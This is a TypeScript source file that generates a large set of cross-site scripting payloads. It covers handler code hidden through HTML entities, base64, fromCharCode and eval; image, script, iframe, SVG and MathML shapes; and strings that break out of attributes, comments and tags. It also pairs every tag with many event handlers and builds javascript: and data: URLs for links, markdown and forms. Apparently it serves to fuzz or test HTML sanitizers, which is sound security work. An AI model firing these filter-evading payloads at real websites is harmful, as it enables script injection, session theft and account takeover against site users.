type Way = (run: string) => string;

const entities = (text: string, base: 10 | 16) =>
  [...text]
    .map((letter) => letter.charCodeAt(0).toString(base))
    .map((code) => (base === 16 ? `&#x${code};` : `&#${code};`))
    .join("");
const unicode = (text: string) => text.replace(/^xss/, "\\u0078ss");
const letters = (text: string) => `[${[...text].map((letter) => letter.charCodeAt(0)).join(",")}]`;
const mixed = (text: string) =>
  [...text].map((letter, at) => (at % 2 === 0 ? letter.toUpperCase() : letter)).join("");

/** How the code inside a handler is written. */
const CODES: readonly Way[] = [
  (run) => run,
  (run) => entities(run, 10),
  (run) => entities(run, 16),
  unicode,
  (run) => `self['xss']${run.slice(3)}`,
  (run) => `top[8680439..toString(30)],window[\`x\`+\`ss\`]${run.slice(3)}`,
  (run) => `eval('${run}')`,
  (run) => `setTimeout('${run}')`,
  (run) => `Function\`${run}\`\`\``,
  (run) => `[].constructor.constructor('${run}')()`,
  (run) => `eval(String.fromCharCode(...${letters(run)}))`,
  (run) => `eval(atob('${btoa(run)}'))`,
  (run) => `import('data:text/javascript,${run}')`,
  (run) => `/*-/*\`/*\\\`/*'/*"/**/(${run})//`,
];

/** How the markup around a handler is written. */
const SHAPES: readonly ((code: string) => string)[] = [
  (code) => `<img src=x onerror="${code}">`,
  (code) => `<img src=x onerror='${code}'>`,
  (code) => `<img/src=x/onerror="${code}"/>`,
  (code) => `<${mixed("img")} sRc=x ${mixed("onerror")}="${code}">`,
  (code) => `<img\nsrc=x\nonerror\n=\n"${code}">`,
  (code) => `<img\tsrc=x\tonerror="${code}"`,
  (code) => `<<img src=x onerror="${code}">//<`,
];

/** Markup that runs by itself as soon as it is markup. */
export const runners: readonly Way[] = [
  ...SHAPES.flatMap((shape) =>
    CODES.map(
      (code): Way =>
        (run) =>
          shape(code(run)),
    ),
  ),
  (run) => `<script>${run}</script>`,
  (run) => `<${mixed("script")}>${run}</${mixed("script")}>`,
  (run) => `<script/x>${run}</script >`,
  (run) => `<script src="data:text/javascript,${run}"></script>`,
  (run) => `<script type=module>${run}</script>`,
  (run) => `<scr<script>ipt>${run}</scr</script>ipt>`,
  (run) => `<iframe srcdoc="<script>parent.${run}</script>"></iframe>`,
  (run) => `<iframe srcdoc='&lt;img src=x onerror=parent.${run}&gt;'></iframe>`,
  (run) => `<iframe onload="${run}"></iframe>`,
  (run) => `<video><source onerror="${run}"></video>`,
  (run) => `<audio src=x onerror="${run}"></audio>`,
  (run) => `<video src=x onerror="${run}"></video>`,
  (run) => `<picture><source srcset=x><img onerror="${run}" src=x></picture>`,
  (run) => `<input autofocus onfocus="${run}">`,
  (run) => `<textarea autofocus onfocus="${run}"></textarea>`,
  (run) => `<select autofocus onfocus="${run}"></select>`,
  (run) => `<button autofocus onfocus="${run}">x</button>`,
  (run) => `<a href=# autofocus onfocus="${run}">x</a>`,
  (run) => `<div contenteditable autofocus onfocus="${run}">x</div>`,
  (run) => `<details open ontoggle="${run}"><summary>x</summary></details>`,
  (run) => `<object data=x onerror="${run}"></object>`,
  (run) => `<embed src=x onerror="${run}">`,
  (run) => `<link rel=stylesheet href=x onerror="${run}">`,
  (run) => `<style onload="${run}">p{}</style>`,
  (run) => `<marquee onstart="${run}">x</marquee>`,
  (run) => `<body onload="${run}">`,
  (run) => `<frameset onload="${run}">`,
  (run) => `<meta http-equiv=refresh content="0;url=javascript:${run}">`,
  (run) => `<base href="javascript:${run}//">`,
  (run) => `<input type=image src=x onerror="${run}">`,
  (run) => `<track default src=x onerror="${run}">`,
  (run) => `<dialog open onclose="${run}"><form method=dialog><button autofocus>x</button></form></dialog>`,
  (run) => `<p style="animation:pulse 1s" onanimationstart="${run}">x</p>`,
  (run) => `<template shadowrootmode=open><img src=x onerror="${run}"></template>`,
];

/** What stands before markup so that it leaves the place it was put into. */
const BREAKS = [
  `">`,
  `'>`,
  `-->`,
  `--!>`,
  `]]>`,
  `</title>`,
  `</textarea>`,
  `</script>`,
  `</style>`,
  `</noscript>`,
  `</template>`,
  `</select>`,
  `</iframe>`,
  `</xmp>`,
  `</math>`,
  `</svg>`,
  `\\">`,
  `\\u0022\\u003e`,
  `&quot;&gt;`,
  `%22%3E`,
  `"/>`,
  "`>",
  "\u0000>",
  `"}</script>`,
  `*/</style>`,
];
const AFTER: readonly Way[] = [
  (run) => `<img src=x onerror="${run}">`,
  (run) => `<svg onload="${run}">`,
  (run) => `<script>${run}</script>`,
  (run) => `<iframe srcdoc="<script>parent.${run}</script>"></iframe>`,
];
export const breakOuts: readonly Way[] = [
  ...BREAKS.flatMap((out) =>
    AFTER.map(
      (after): Way =>
        (run) =>
          `${out}${after(run)}`,
    ),
  ),
  (run) => `" onmouseover="${run}" x="`,
  (run) => `' onmouseover='${run}' x='`,
  (run) => `" autofocus onfocus="${run}" x="`,
  (run) => `x onpointerenter=${run} y`,
  (run) => `"-${run}-"`,
  (run) => `'-${run}-'`,
  (run) => `\\"-${run}//`,
  (run) => `\\';${run}//`,
  (run) => `";${run}//`,
  (run) => `\`-${run}-\``,
  (run) => `\${${run}}`,
  (run) => `\u2028${run}\u2029`,
  (run) => `</script\u000c><script>${run}</script>`,
  (run) => `<!--<script>${run}</script>`,
  (run) => `<![CDATA[<script>${run}</script>]]>`,
];

const TAGS = ["a", "b", "div", "form", "h1", "li", "p", "span", "table", "x-gate", "math", "label"];
const EVENTS = [
  "onclick",
  "onmouseover",
  "onmouseenter",
  "onpointerdown",
  "onpointerrawupdate",
  "onfocusin",
  "onkeydown",
  "onwheel",
  "oncopy",
  "onpaste",
  "ondragstart",
  "onbeforeinput",
  "oncontentvisibilityautostatechange",
  "onscrollend",
];
/** Every tag with every handler. */
export const handlers: readonly Way[] = TAGS.flatMap((tag) =>
  EVENTS.map(
    (event): Way =>
      (run) =>
        `<${tag} ${event}="${run}" tabindex=0>x</${tag}>`,
  ),
);

export const SVG: readonly Way[] = [
  (run) => `<svg onload="${run}">`,
  (run) => `<svg/onload=${run}>`,
  (run) => `<svg><script>${run}</script></svg>`,
  (run) => `<svg><script href="data:text/javascript,${run}"/></svg>`,
  (run) => `<svg><script>&#120;${run.slice(1)}</script></svg>`,
  (run) => `<svg><animate onbegin="${run}" attributeName=x dur=1s></svg>`,
  (run) => `<svg><set onbegin="${run}" attributeName=x dur=1s></svg>`,
  (run) => `<svg><a xlink:href="javascript:${run}"><text y=9>x</text></a></svg>`,
  (run) => `<svg><a><animate attributeName=href values="javascript:${run}"/><text y=9>x</text></a></svg>`,
  (run) => `<svg><use href="data:image/svg+xml,<svg id='x' onload='${run}'/>#x"/></svg>`,
  (run) => `<svg><image href=x onerror="${run}"/></svg>`,
  (run) => `<svg><foreignObject><img src=x onerror="${run}"></foreignObject></svg>`,
  (run) => `<svg><style><img src=x onerror="${run}"></style></svg>`,
  (run) => `<svg><desc><![CDATA[</desc><script>${run}</script>]]></svg>`,
  (run) => `<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="${run}"/>`,
  (run) => `<math><mtext></form><form><mglyph><style></math><img src=x onerror="${run}">`,
  (run) => `<math><a xlink:href="javascript:${run}">x</a></math>`,
  (run) => `<math href="javascript:${run}">x</math>`,
];

const SCHEMES: readonly Way[] = [
  (run) => `javascript:${run}`,
  (run) => `${mixed("javascript")}:${run}`,
  (run) => `java\tscript:${run}`,
  (run) => `java\nscript:${run}`,
  (run) => `java&#10;script:${run}`,
  (run) => `javascript&colon;${run}`,
  (run) => `&#106;avascript:${run}`,
  (run) => `\u0001javascript:${run}`,
  (run) => ` javascript:${run}`,
  (run) => `javascript://example.com/%0a${run}`,
  (run) => `javascript:/*https://example.com*/${run}`,
  (run) => `view-source:javascript:${run}`,
  (run) => `data:text/html,<script>${run}</script>`,
  (run) => `data:text/html;base64,${btoa(`<script>${run}</script>`)}`,
  (run) => `vbscript:${run}`,
  (run) => `blob:javascript:${run}`,
];
const CARRIERS: readonly ((address: string) => string)[] = [
  (address) => address,
  (address) => `<a href="${address}">x</a>`,
  (address) => `[x](${address})`,
  (address) => `<${address}>`,
  (address) => `![x](${address})`,
  (address) => `<form action="${address}"><button>x</button></form>`,
  (address) => `<iframe src="${address}"></iframe>`,
  (address) => `<object data="${address}"></object>`,
];
/** Every way to write a script's address in every place for addresses. */
export const scriptLinks: readonly Way[] = CARRIERS.flatMap((carrier) =>
  SCHEMES.map(
    (scheme): Way =>
      (run) =>
        carrier(scheme(run)),
  ),
);

export { BIDI, CSS, MARKDOWN, TEMPLATES } from "./payloads-of-text.ts";
